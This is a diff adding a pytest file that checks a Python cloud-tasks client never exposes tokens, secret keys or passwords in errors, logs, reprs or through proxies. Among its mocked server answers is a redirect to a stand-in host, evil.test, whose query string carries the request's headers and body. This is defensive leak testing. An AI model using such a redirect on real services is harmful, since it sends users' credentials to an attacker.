@@ -1,0 +1,208 @@
+"""Secrets are driven through success and every kind of failure, and looked for wherever something is shown."""
+
+from __future__ import annotations
+
+import copy
+import html
+import json
+import logging
+import pickle
+import traceback
+from collections.abc import Callable
+from typing import Any
+from urllib.parse import quote
+
+import httpx
+import pytest
+
+from kps_tasks import (
+    AccessKeyAuth,
+    AgencyAuth,
+    Client,
+    KpsError,
+    MetadataAuth,
+    PasswordAuth,
+    RetryPolicy,
+    StaticToken,
+)
+from kps_tasks_mock import MockKps
+
+TOKEN, SECRET_KEY, SECURITY_TOKEN = "canary/token+1==", "canary&secret/key", "canary'security<token"
+PASSWORD = 'canary"pass\\wörd & <1>'
+NEW_TOKEN = "MII-canary-new-token"
+CANARIES = (TOKEN, SECRET_KEY, SECURITY_TOKEN, PASSWORD, NEW_TOKEN)
+REGION = {"project_name": "cn-north-4"}
+
+CREDENTIALS: dict[str, Callable[[], Any]] = {
+    "token": lambda: StaticToken(TOKEN),
+    "access key": lambda: AccessKeyAuth("AK", SECRET_KEY, SECURITY_TOKEN),
+    "password": lambda: PasswordAuth("user", PASSWORD, "account", **REGION),
+    "agency": lambda: AgencyAuth(PasswordAuth("user", PASSWORD, "account", **REGION), "agency", "account", **REGION),
+    "metadata": MetadataAuth,
+}
+
+
+def forms(secret: str) -> set[str]:
+    """What a secret may look like when it is echoed."""
+    in_json = {json.dumps(secret)[1:-1], json.dumps(secret, ensure_ascii=False)[1:-1]}
+    slashed = {form.replace("/", "\\/") for form in in_json}
+    return {secret, *in_json, *slashed, quote(secret, safe=""), quote(secret), html.escape(secret), repr(secret)[1:-1]}
+
+
+ALL_FORMS = set().union(*(forms(secret) for secret in CANARIES))
+
+
+def echo(request: httpx.Request) -> str:
+    """All that a request carried, as a careless server may repeat it."""
+    return " ".join([*(f"{name}: {value}" for name, value in request.headers.items()), request.content.decode()])
+
+
+def carried(request: httpx.Request) -> str:
+    """The secret that a request carried in a header."""
+    names = ("X-Auth-Token", "X-Security-Token", "X-Metadata-Token")
+    return next((request.headers[name] for name in names if name in request.headers), "none")
+
+
+def give(request: httpx.Request) -> httpx.Response | None:
+    """Answer as IAM and a server's metadata do, with new secrets."""
+    match request.url.path:
+        case "/v3/auth/tokens":
+            return httpx.Response(201, headers={"X-Subject-Token": NEW_TOKEN}, json={"token": {}})
+        case "/meta-data/latest/api/token":
+            return httpx.Response(200, text=TOKEN)
+        case "/openstack/latest/securitykey":
+            keys = {"access": "AK", "secret": SECRET_KEY, "securitytoken": SECURITY_TOKEN}
+            return httpx.Response(200, json={"credential": keys})
+    return None
+
+
+Answer = Callable[[httpx.Request], httpx.Response]
+
+
+def fail(request: httpx.Request) -> httpx.Response:
+    raise httpx.ConnectError(f"no way with {echo(request)}")
+
+
+ANSWERS: dict[str, Answer] = {
+    "success": lambda request: httpx.Response(200, json={"task_id": "t", "task_status": "RUNNING_RESET"}),
+    "401 that echoes": lambda request: httpx.Response(
+        401, json={"error_code": "APIGW.0301", "error_msg": f"signature fail, canonicalRequest:{echo(request)}"}
+    ),
+    "expired": lambda request: httpx.Response(401, json={"error_code": "APIGW.0307", "error_msg": echo(request)}),
+    "HTML": lambda request: httpx.Response(502, html=f"<p>{html.escape(echo(request))}</p>"),
+    "JSON with escaped slashes": lambda request: httpx.Response(
+        500, text=json.dumps({"error_msg": echo(request)}).replace("/", "\\/")
+    ),
+    "no JSON": lambda request: httpx.Response(200, text=echo(request)),
+    "a list": lambda request: httpx.Response(200, json=[echo(request)]),
+    "a strange content type": lambda request: httpx.Response(
+        400, headers={"Content-Type": carried(request)}, content=b"x"
+    ),
+    "a strange request id": lambda request: httpx.Response(403, headers={"X-Request-Id": carried(request)}),
+    "a redirect": lambda request: httpx.Response(
+        302, headers={"Location": f"http://evil.test/?{quote(echo(request))}"}
+    ),
+    "connection": fail,
+}
+
+
+@pytest.fixture
+def logged(caplog: pytest.LogCaptureFixture) -> pytest.LogCaptureFixture:
+    for name in ("kps_tasks", "httpx", "httpcore"):
+        caplog.set_level(logging.DEBUG, logger=name)
+    return caplog
+
+
+def shown(error: BaseException | None, *things: object) -> str:
+    """All that anyone may print of an error and of other things."""
+    texts = [show(thing) for thing in (error, *things) for show in (repr, str)]
+    texts += [repr(vars(error))] if error else []
+    texts += ["".join(traceback.format_exception(error))] if error else []
+    return "\n".join(texts)
+
+
+@pytest.mark.parametrize("kind", CREDENTIALS)
+@pytest.mark.parametrize("answer", ANSWERS)
+def test_no_secret_is_shown(connect, logged, kind, answer):
+    auth = CREDENTIALS[kind]()
+
+    def handler(request: httpx.Request) -> httpx.Response:
+        return give(request) or ANSWERS[answer](request)
+
+    client = connect(handler, auth=auth, retry=RetryPolicy(first=0, attempts=2))
+    error = None
+    try:
+        client.tasks.get("t")
+    except KpsError as caught:
+        error = caught
+    assert (error is None) == (answer == "success")
+    everything = shown(error, auth, client) + logged.text
+    assert [form for form in ALL_FORMS if form in everything] == []
+
+
+@pytest.mark.parametrize("kind", ["password", "agency", "metadata"])
+@pytest.mark.parametrize("answer", [name for name in ANSWERS if name != "success"])
+def test_no_secret_is_shown_when_it_cannot_be_fetched(connect, logged, kind, answer):
+    auth = CREDENTIALS[kind]()
+    error = None
+    try:
+        connect(ANSWERS[answer], auth=auth).tasks.get("t")
+    except KpsError as caught:
+        error = caught
+    assert error is not None
+    everything = shown(error, auth) + logged.text
+    assert [form for form in ALL_FORMS if form in everything] == []
+
+
+@pytest.mark.parametrize("kind", CREDENTIALS)
+@pytest.mark.parametrize("write", [pickle.dumps, copy.copy, copy.deepcopy])
+def test_no_credential_can_be_pickled_or_copied(kind, write):
+    with pytest.raises(TypeError, match="plain text"):
+        write(CREDENTIALS[kind]())
+
+
+def test_a_new_token_is_in_no_log_of_a_real_connection(logged):
+    """httpcore logs the headers of answers, and IAM's token is one."""
+    mock = MockKps.documented()
+    with mock.serve() as url:
+        auth = PasswordAuth("demo-user", "demo-password", "demo-account", iam_endpoint=url, **REGION)
+        with Client(endpoint=url, project_id=mock.project_id, auth=auth) as client:
+            assert list(client.tasks.list_running())
+    token = mock.requests[-1].header("X-Auth-Token")
+    assert "receive_response_headers.complete" in logged.text, "httpcore logs nothing: this test proves nothing"
+    assert token
+    assert token not in logged.text
+    assert "demo-password" not in logged.text
+    assert "x-subject-token" in logged.text.lower()
+    assert "[secret]" in logged.text
+
+
+def test_a_netrc_entry_and_a_proxy_change_nothing(mock, tmp_path, monkeypatch):
+    (tmp_path / ".netrc").write_text("machine 127.0.0.1 login user password netrc-password\n")
+    monkeypatch.setenv("HOME", str(tmp_path))
+    monkeypatch.setenv("NETRC", str(tmp_path / ".netrc"))
+    for name in ("HTTP_PROXY", "http_proxy", "ALL_PROXY", "all_proxy"):
+        monkeypatch.setenv(name, "http://127.0.0.1:9")  # nobody listens there
+    with mock.serve() as url:
+        for auth in (
+            StaticToken("demo-token"),
+            AccessKeyAuth("DEMOACCESSKEY", "demo-secret-key"),
+            PasswordAuth("demo-user", "demo-password", "demo-account", iam_endpoint=url, **REGION),
+        ):
+            with Client(endpoint=url, project_id=mock.project_id, auth=auth) as client:
+                assert list(client.tasks.list_running())
+    assert all((request.header("Authorization") or "SDK-HMAC").startswith("SDK-HMAC") for request in mock.requests)
+
+
+def test_a_proxy_for_https_is_not_used_for_iam_over_http(mock, monkeypatch):
+    """Else a proxy would be shown the password."""
+    for name in ("HTTP_PROXY", "http_proxy", "ALL_PROXY", "all_proxy"):
+        monkeypatch.setenv(name, "http://127.0.0.1:9")
+    with mock.serve() as url:
+        auth = PasswordAuth("demo-user", "demo-password", "demo-account", iam_endpoint=url, **REGION)
+        with (
+            Client(endpoint="https://127.0.0.1:9", project_id="p", auth=auth, retry=None) as client,
+            pytest.raises(KpsError, match="GET https"),
+        ):
+            client.tasks.get("t")
+    assert mock.requests[0].path == "/v3/auth/tokens"
